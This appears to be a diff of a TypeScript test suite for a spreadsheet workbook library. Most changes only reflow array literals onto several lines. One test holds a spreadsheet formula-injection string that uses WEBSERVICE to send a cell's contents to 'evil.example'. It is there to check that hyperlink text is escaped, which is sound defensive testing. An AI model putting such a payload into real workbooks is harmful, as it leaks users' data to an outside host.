@@ -82,7 +82,10 @@ describe.each(['America/Los_Angeles', 'Asia/Tashkent', 'Pacific/Auckland'])('dat
     const workbook = XlsxWorkbook.create();
     workbook.addTab('Log');
     const stamp = new Date(2026, 10, 20, 16, 45, 10);
-    workbook.write('Log', 1, 1, [['Day', 'Timestamp'], [new Date(2026, 10, 23), stamp]]);
+    workbook.write('Log', 1, 1, [
+      ['Day', 'Timestamp'],
+      [new Date(2026, 10, 23), stamp],
+    ]);
     const name = `write-${zone.replace('/', '-')}.xlsx`;
     const back = await reopen(workbook, name);
     const row = back.read('Log')?.[1] ?? [];
@@ -166,9 +169,16 @@ describe('writing', () => {
     const workbook = XlsxWorkbook.create();
     workbook.addTab('Compliance');
     workbook.write('Compliance', 1, 1, [['Ref', 'Finding']]);
-    workbook.writeLinks('Compliance', 2, 1, [[{ text: 'M-2026-03', sheet: 'Meetings', row: 9 }, null], [{ text: "O'Brien", sheet: "Working groups", row: 3 }, null]]);
+    workbook.writeLinks('Compliance', 2, 1, [
+      [{ text: 'M-2026-03', sheet: 'Meetings', row: 9 }, null],
+      [{ text: "O'Brien", sheet: 'Working groups', row: 3 }, null],
+    ]);
     const back = await reopen(workbook, 'links.xlsx');
-    expect(back.read('Compliance')).toEqual([['Ref', 'Finding'], ['M-2026-03', ''], ["O'Brien", '']]);
+    expect(back.read('Compliance')).toEqual([
+      ['Ref', 'Finding'],
+      ['M-2026-03', ''],
+      ["O'Brien", ''],
+    ]);
     const raw = (await rawBook('links.xlsx')).getWorksheet('Compliance');
     expect(raw?.getCell('A2').value).toEqual({ formula: `HYPERLINK("#'Meetings'!A9","M-2026-03")`, result: 'M-2026-03' });
     expect(raw?.getCell('A3').value).toEqual({ formula: `HYPERLINK("#'Working groups'!A3","O'Brien")`, result: "O'Brien" });
@@ -180,7 +190,12 @@ describe('writing', () => {
     workbook.addTab('Compliance');
     const sly = '9"),WEBSERVICE("http://evil.example/?"&A1&"';
     const long = `${'é'.repeat(300)}"${'x'.repeat(300)}`;
-    workbook.writeLinks('Compliance', 1, 1, [[{ text: sly, sheet: 'Say "hi"', row: 2 }, { text: long, sheet: 'Log', row: 7 }]]);
+    workbook.writeLinks('Compliance', 1, 1, [
+      [
+        { text: sly, sheet: 'Say "hi"', row: 2 },
+        { text: long, sheet: 'Log', row: 7 },
+      ],
+    ]);
     await workbook.save(file('sly.xlsx'));
     const raw = (await rawBook('sly.xlsx')).getWorksheet('Compliance');
     const a1 = raw?.getCell('A1').value as ExcelJS.CellFormulaValue;
@@ -209,7 +224,11 @@ describe('writing', () => {
     const workbook = XlsxWorkbook.create();
     workbook.addTab('Compliance');
     workbook.format('Compliance', { columns: [{ column: 1, header: 'Severity', kind: 'choice', choices: ['error', 'warning', 'info'], width: 90 }] });
-    workbook.write('Compliance', 1, 1, [['Severity', 'Finding'], ['error', 'a'], ['info', 'b']]);
+    workbook.write('Compliance', 1, 1, [
+      ['Severity', 'Finding'],
+      ['error', 'a'],
+      ['info', 'b'],
+    ]);
     workbook.paint('Compliance', 2, 1, [['#ff0000', '#ff0000']]);
     workbook.clearFrom('Compliance', 2);
     expect(workbook.read('Compliance')).toEqual([['Severity', 'Finding']]);
@@ -225,7 +244,11 @@ describe('the look of a result tab', () => {
     const workbook = XlsxWorkbook.create();
     workbook.addTab('Report: Test');
     workbook.format('Report: Test', { columns: [{ column: 2, header: 'Status', kind: 'choice', choices: ['Open', 'Done'], width: 90 }] });
-    workbook.write('Report: Test', 1, 1, [['Title', '', ''], ['Agency', 'Budget', 'Due'], ['IOM', 1500, new Date(2026, 5, 30)]]);
+    workbook.write('Report: Test', 1, 1, [
+      ['Title', '', ''],
+      ['Agency', 'Budget', 'Due'],
+      ['IOM', 1500, new Date(2026, 5, 30)],
+    ]);
     workbook.paint('Report: Test', 3, 1, [['#ff0000', null, null]]);
     workbook.style('Report: Test', {
       frozenRows: 2,
@@ -309,7 +332,12 @@ describe('tabs and formats', () => {
     const workbook = XlsxWorkbook.create();
     workbook.addTab('Compliance');
     // Formatted before the header is written, as the compliance check does on a new tab.
-    workbook.format('Compliance', { columns: [{ column: 1, header: 'Severity', kind: 'text', choices: [], width: 90 }, { column: 3, header: 'Sheet', kind: 'text', choices: [], width: 90 }] });
+    workbook.format('Compliance', {
+      columns: [
+        { column: 1, header: 'Severity', kind: 'text', choices: [], width: 90 },
+        { column: 3, header: 'Sheet', kind: 'text', choices: [], width: 90 },
+      ],
+    });
     workbook.write('Compliance', 1, 1, [['Severity', 'Rule', 'Sheet', 'Mine']]);
     await workbook.save(file('page.xlsx'));
     const sheet = (await rawBook('page.xlsx')).getWorksheet('Compliance');
@@ -451,7 +479,9 @@ describe('files that are not workbooks', () => {
   });
 
   it('reports a save into a folder that does not exist as a WorkbookFileError', async () => {
-    const error = await XlsxWorkbook.create().save(file('nowhere/out.xlsx')).catch((e: unknown) => e);
+    const error = await XlsxWorkbook.create()
+      .save(file('nowhere/out.xlsx'))
+      .catch((e: unknown) => e);
     expect(error).toBeInstanceOf(WorkbookFileError);
   });
 });
